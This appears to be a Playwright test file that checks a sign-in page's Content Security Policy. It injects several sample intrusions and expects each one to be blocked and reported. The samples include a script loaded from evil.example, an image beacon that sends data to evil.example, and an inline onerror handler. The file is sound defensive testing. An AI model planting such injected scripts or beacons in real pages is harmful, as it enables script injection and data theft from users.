import { expect, test } from '@playwright/test';

/** Scripts, styles, pictures and connections that somebody managed to get into a page. */
const INTRUDERS: Readonly<Record<string, () => void>> = {
  'an inline script': () => {
    const script = document.createElement('script');
    script.textContent = 'window.name = "intruder"';
    document.body.append(script);
  },
  'a script from elsewhere': () => {
    const script = document.createElement('script');
    script.src = 'https://evil.example/x.js';
    document.body.append(script);
  },
  'a picture that carries data away': () => {
    new Image().src = 'https://evil.example/?code=x';
  },
  'a handler in markup': () => {
    document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.name = \'intruder\'">');
  },
  'a frame': () => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: '/sign-in' }));
  },
};

for (const [name, intrude] of Object.entries(INTRUDERS)) {
  test(`${name} is stopped, and the browser tells us, and complains where the walk over every page listens`, async ({
    page,
  }) => {
    await page.goto('/sign-in');
    const complaint = page.waitForEvent('console', {
      predicate: (message) => message.type() === 'error' && /Content Security Policy/.test(message.text()),
    });
    const report = page.waitForRequest('**/csp-reports');
    await page.evaluate(intrude);
    await complaint;
    expect((await report).method()).toBe('POST');
    expect(await page.evaluate(() => window.name)).toBe('');
  });
}
